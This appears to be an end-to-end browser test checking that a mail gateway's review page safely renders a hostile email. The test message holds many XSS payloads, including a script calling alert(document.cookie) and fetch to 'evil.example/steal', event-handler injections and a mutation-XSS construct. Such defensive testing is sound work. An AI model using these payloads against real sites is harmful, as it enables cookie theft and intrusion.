import { existsSync, mkdirSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { Redis } from 'ioredis';
import { chromium, type Browser, type BrowserContext, type Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { filters as registry } from '../../filters/index.js';
import { silentLogger } from '../../src/log.js';
import { NextHopClient } from '../../src/relay/forward.js';
import { createReviewEffects, type ReviewEffects } from '../../src/review/effects.js';
import { ReviewStore } from '../../src/review/store.js';
import { configWith } from '../helpers/config.js';
import { deleteKeys, TEST_REDIS_URL, uniquePrefix, VOLATILE_TEST_REDIS } from '../helpers/redis.js';
import { sendThrough, startRelay, type TestRelay } from '../helpers/relay.js';
import { startSink, type Sink } from '../helpers/sink.js';
import { REVIEWER, startReviewFixture, type ReviewFixture } from './fixture.js';

vi.mock('../../filters/index.js', async (importOriginal) => {
  const actual = await importOriginal<typeof import('../../filters/index.js')>();
  return { filters: [...actual.filters, ...(await import('./test-filters.js')).testFilters] };
});

const CHROMIUM = '/usr/bin/chromium';
const CHROMIUM_ARGS = ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'];
const ARTIFACTS = join(dirname(fileURLToPath(import.meta.url)), '..', 'artifacts');
const FILTERS: Record<string, { enabled?: boolean; action?: 'hold' | 'flag' }> = {
  ...Object.fromEntries(registry.filter((filter) => !filter.id.startsWith('test-')).map((filter) => [filter.id, { enabled: false }])),
  'test-hold': { action: 'hold' },
  'test-flag': { action: 'flag' },
};
const MARKER = 'XSS-MARKER-4b1d';

/** A payload in each place a message can carry one: subject, text part, HTML part. */
function hostileMessage(): string {
  const boundary = 'b-hostile-1';
  const subject = `[flag-me] Budget <script>console.log('${MARKER}');alert(1)</script><img src=x onerror="console.log('${MARKER}')">`;
  const htmlPart = [
    '<html><head>',
    '<base href="http://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=http://evil.example/refresh">',
    '<link rel="stylesheet" href="http://evil.example/style.css">',
    `<style>@import url("http://evil.example/import.css"); body { background: url("http://evil.example/bg.png") }</style>`,
    `<script>console.log('${MARKER}'); alert(document.cookie); fetch('http://evil.example/steal')</script>`,
    '</head><body onload="alert(2)">',
    '<h2>Depot roof update</h2>',
    '<p style="color: #1d4f91; background-image: url(http://evil.example/style-attr.png)">Dear Imran, please proceed with the works on the depot roof.</p>',
    '<img src="http://tracker.example/pixel.gif?who=monitoring-officer" alt="tracking pixel" width="1" height="1">',
    '<img src="https://cdn.evil.example/logo.png" srcset="http://evil.example/2x.png 2x" alt="Logo">',
    `<img src=x onerror="console.log('${MARKER}')">`,
    `<svg onload="console.log('${MARKER}')"><circle r="5"></circle></svg>`,
    `<a href="javascript:console.log('${MARKER}')">click me</a> <a href="http://evil.example/phish">and me</a>`,
    '<iframe src="http://evil.example/frame"></iframe>',
    '<form action="http://evil.example/form"><input name="q"><button>Go</button></form>',
    `<math><mtext><table><mglyph><style><img src=x onerror="console.log('${MARKER}')"></style></mglyph></table></mtext></math>`,
    `<div style="width: expression(alert(3))">Regards, Cllr Hadley</div>`,
    '</body></html>',
  ].join('\r\n');
  return [
    'From: Cllr Tom Hadley <cllr.hadley@greyfordvale.gov.uk>',
    'To: Imran Shah <imran.shah@greyfordvale.gov.uk>',
    `Subject: ${subject}`,
    'Message-ID: <hostile-1@greyfordvale.gov.uk>',
    'Date: Mon, 23 Nov 2026 10:00:00 +0000',
    'MIME-Version: 1.0',
    `Content-Type: multipart/alternative; boundary="${boundary}"`,
    '',
    `--${boundary}`,
    'Content-Type: text/plain; charset=utf-8',
    '',
    'Dear Imran, please proceed with the works on the depot roof.',
    `<script>console.log('${MARKER}')</script> <img src="http://tracker.example/text.gif">`,
    '',
    'On Fri, 20 Nov 2026 at 09:12, Imran Shah wrote:',
    '> The contractor can start on Monday if approved.',
    '',
    `--${boundary}`,
    'Content-Type: text/html; charset=utf-8',
    '',
    htmlPart,
    `--${boundary}--`,
    '',
  ].join('\r\n');
}

function heldMessage(): string {
  return [
    'From: Cllr Tom Hadley <cllr.hadley@greyfordvale.gov.uk>',
    'To: Imran Shah <imran.shah@greyfordvale.gov.uk>',
    'Subject: Pothole contract [hold-me]',
    'Message-ID: <held-browser-1@greyfordvale.gov.uk>',
    'Date: Mon, 23 Nov 2026 11:00:00 +0000',
    '',
    'Imran, please proceed with the works and I authorise the spend.',
    '',
  ].join('\r\n');
}

function isLocal(url: string): boolean {
  if (url.startsWith('data:') || url.startsWith('about:')) return true;
  try {
    const { hostname } = new URL(url);
    return hostname === '127.0.0.1' || hostname === 'localhost' || hostname === '[::1]';
  } catch {
    return false;
  }
}

const hasChromium = existsSync(CHROMIUM);
if (!hasChromium) process.stderr.write(`skipping the review browser test: ${CHROMIUM} is not installed (apt-get install chromium)\n`);

describe.skipIf(!hasChromium)('review page in a real browser', () => {
  let nextHop: Sink;
  let prefix: string;
  let redis: Redis;
  let store: ReviewStore;
  let effects: ReviewEffects;
  let relay: TestRelay;
  let review: ReviewFixture;
  let releaseClient: NextHopClient;
  let browser: Browser;
  let context: BrowserContext;
  let page: Page;
  const dialogs: string[] = [];
  const consoleLines: string[] = [];
  const pageErrors: string[] = [];
  const leftLocalhost: string[] = [];
  const heldRaw = Buffer.from(heldMessage(), 'latin1');

  beforeAll(async () => {
    mkdirSync(ARTIFACTS, { recursive: true });
    nextHop = await startSink();
    prefix = uniquePrefix('review-browser');
    redis = new Redis(TEST_REDIS_URL);
    store = new ReviewStore({ redis, prefix, acceptVolatileHolds: VOLATILE_TEST_REDIS, retentionMs: 90 * 86_400_000, logger: silentLogger });
    effects = createReviewEffects(store, { config: configWith({ filters: FILTERS }), logger: silentLogger });
    relay = await startRelay(nextHop.address, { filters: FILTERS }, { review: effects.review });
    releaseClient = new NextHopClient({ address: nextHop.address, hostname: 'gateway.test', poolSize: 1, timeoutMs: 5_000, logger: silentLogger });
    review = await startReviewFixture({ prefix, nextHop: releaseClient });

    const envelope = { from: 'cllr.hadley@greyfordvale.gov.uk', to: ['imran.shah@greyfordvale.gov.uk', 'cllr.pryce@greyfordvale.gov.uk'] };
    expect((await sendThrough(relay.port, envelope, hostileMessage())).ok).toBe(true);
    expect((await sendThrough(relay.port, envelope, heldRaw)).ok).toBe(true);
    nextHop.messages.length = 0;

    browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS, headless: true });
    context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
    await context.route('**/*', async (route) => {
      const url = route.request().url();
      if (isLocal(url)) return route.continue();
      leftLocalhost.push(url);
      return route.abort();
    });
    page = await context.newPage();
    page.on('dialog', (dialog) => {
      dialogs.push(dialog.message());
      void dialog.dismiss();
    });
    page.on('console', (message) => consoleLines.push(message.text()));
    page.on('pageerror', (error) => pageErrors.push(error.message));
  });

  afterAll(async () => {
    await browser?.close();
    await relay?.close();
    await review?.close();
    await releaseClient?.close();
    await effects?.settle();
    redis?.disconnect();
    await nextHop?.close();
    if (prefix) await deleteKeys(prefix);
  });

  it('sends a visitor without a session to the sign-in page, and signs in', async () => {
    await page.goto(`${review.baseUrl}/`);
    await page.waitForURL(/\/login$/);
    await page.getByLabel('User name').fill(REVIEWER.user);
    await page.getByLabel('Password').fill(REVIEWER.password);
    await page.getByRole('button', { name: 'Sign in' }).click();
    await page.waitForURL(`${review.baseUrl}/`);
    expect(await page.getByRole('heading', { level: 1 }).textContent()).toBe('Flagged and held mail');
    expect(await page.locator('nav.tabs').textContent()).toMatch(/Open\s*\(2\)/);
    await page.screenshot({ path: join(ARTIFACTS, 'review-list.png'), fullPage: true });
  });

  it('shows a hostile flagged message without running anything or fetching anything', async () => {
    await page.getByRole('link', { name: /\[flag-me\] Budget/ }).click();
    await page.waitForURL(/\/flags\/[a-z0-9]{12}$/);
    // the payload is shown as text, not run
    expect(await page.getByRole('heading', { level: 1 }).textContent()).toContain(`<script>console.log('${MARKER}');alert(1)</script>`);
    expect(await page.locator('mark').first().textContent()).toBe('[flag-me]');
    expect(await page.locator('pre.message-text mark').first().textContent()).toBe('please proceed with the works');
    expect(await page.locator('.hidden-recipient').textContent()).toContain('cllr.pryce@greyfordvale.gov.uk');
    await page.screenshot({ path: join(ARTIFACTS, 'review-item.png'), fullPage: true });

    await page.getByRole('link', { name: 'Show the formatted version' }).click();
    const frameElement = page.locator('iframe.message-html');
    await frameElement.waitFor();
    expect(await frameElement.getAttribute('sandbox')).toBe('');
    const frame = page.frameLocator('iframe.message-html');
    await frame.getByText('Depot roof update').waitFor();
    expect(await frame.locator('script, iframe, form, svg, math, base, meta[http-equiv], link').count()).toBe(0);
    expect(await frame.locator('img').count()).toBe(0);
    expect(await frame.getByText('[image: tracking pixel]').count()).toBe(1);
    // give anything that would run or load a moment to do so
    await page.waitForTimeout(500);
    await page.screenshot({ path: join(ARTIFACTS, 'review-item-html.png'), fullPage: true });
    // a full-page capture can miss the out-of-process frame; the frame on its own shows what the reviewer sees
    await frameElement.screenshot({ path: join(ARTIFACTS, 'review-item-html-frame.png') });

    expect(dialogs).toEqual([]);
    expect(consoleLines.filter((line) => line.includes(MARKER))).toEqual([]);
    expect(pageErrors).toEqual([]);
    expect(leftLocalhost).toEqual([]);
    expect(await page.title()).not.toMatch(/PWNED/);
  });

  it('lays the pages out for a phone', async () => {
    const phone = await browser.newContext({ viewport: { width: 390, height: 844 }, deviceScaleFactor: 2, isMobile: true, storageState: await context.storageState() });
    try {
      const small = await phone.newPage();
      await small.goto(`${review.baseUrl}/`);
      // a page wider than the screen makes the reader scroll sideways
      const overflow = (): Promise<number> => small.evaluate<number>('document.documentElement.scrollWidth - document.documentElement.clientWidth');
      expect(await overflow()).toBeLessThanOrEqual(0);
      await small.screenshot({ path: join(ARTIFACTS, 'review-list-phone.png'), fullPage: true });
      await small.getByRole('link', { name: /Pothole contract/ }).click();
      await small.waitForURL(/\/flags\//);
      expect(await overflow()).toBeLessThanOrEqual(0);
      await small.screenshot({ path: join(ARTIFACTS, 'review-item-phone.png'), fullPage: true });
    } finally {
      await phone.close();
    }
  });

  it('releases a held message to the next hop', async () => {
    await page.goto(`${review.baseUrl}/?status=held`);
    await page.getByRole('link', { name: /Pothole contract/ }).click();
    await page.waitForURL(/\/flags\/[a-z0-9]{12}$/);
    const id = /\/flags\/([a-z0-9]{12})$/.exec(page.url())?.[1] ?? '';
    await page.getByLabel(/Note for the record/).fill('Spend was already approved by cabinet.');
    await page.getByRole('button', { name: 'Release: deliver to its recipients' }).click();
    await page.waitForURL(/done=release$/);
    expect(await page.getByRole('status').textContent()).toContain('Released');
    await nextHop.waitFor(1);
    const delivered = nextHop.messages[0]!;
    expect(delivered.rcptTo).toEqual(['imran.shah@greyfordvale.gov.uk', 'cllr.pryce@greyfordvale.gov.uk']);
    // the gateway's Received line from when it arrived, its verdict, then the letter as it came
    const text = delivered.raw.toString('latin1');
    expect(text).toMatch(/^Received: from [^\r\n]+\r\n\tby [^\r\n]+\(member-officer-gateway\)[^\r\n]+\r\n\t[^\r\n]+\r\nX-Member-Officer-Screening: /);
    const trace = Buffer.from(text.slice(0, text.indexOf('X-Member-Officer-Screening: ')), 'latin1');
    expect(delivered.raw.equals(Buffer.concat([trace, Buffer.from(`X-Member-Officer-Screening: action=hold; findings=test-hold; review=${id}\r\n`), heldRaw]))).toBe(true);
    expect(await page.locator('#decision-heading + dl').textContent()).toContain('Spend was already approved by cabinet.');
    await page.screenshot({ path: join(ARTIFACTS, 'review-released.png'), fullPage: true });
    expect(dialogs).toEqual([]);
    expect(leftLocalhost).toEqual([]);
  });
});
